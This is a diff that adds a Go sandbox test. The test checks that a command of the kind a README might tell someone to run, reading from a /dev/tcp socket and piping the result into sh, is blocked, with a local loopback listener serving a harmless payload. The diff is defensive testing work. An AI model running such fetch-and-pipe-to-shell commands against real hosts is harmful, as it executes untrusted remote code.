@@ -2,12 +2,14 @@ package sandbox
 
 import (
 	"errors"
+	"io"
 	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"syscall"
 	"testing"
 	"time"
@@ -426,4 +428,35 @@ func TestCaseKAtLevelFull(t *testing.T) {
 		}
 		l.over(t, time.Second)
 	}
+}
+
+// TestCaseI01Approved: what a README tells to fetch and run does neither, where somebody has allowed it by mistake.
+func TestCaseI01Approved(t *testing.T) {
+	levels(t, func(t *testing.T, s *suite) {
+		l, err := net.Listen("tcp", "127.0.0.1:0")
+		must(t, err)
+		defer l.Close()
+		var served atomic.Int32
+		go func() {
+			for {
+				c, err := l.Accept()
+				if err != nil {
+					return
+				}
+				served.Add(1)
+				_, _ = c.Write([]byte("touch ran\n"))
+				_ = c.Close()
+			}
+		}()
+		_, port, _ := strings.Cut(l.Addr().String(), ":")
+		s.does(t, Loopback, "(exec 3<>/dev/tcp/127.0.0.1/"+port+" && cat <&3) | sh")
+		if served.Load() != 0 || there(s.app+"/ran") {
+			t.Errorf("level %s: %d connections", s.level, served.Load())
+		}
+		c, err := net.Dial("tcp", l.Addr().String())
+		must(t, err)
+		if text, _ := io.ReadAll(c); string(text) != "touch ran\n" {
+			t.Errorf("it serves %q: nothing is tested", text)
+		}
+	})
 }
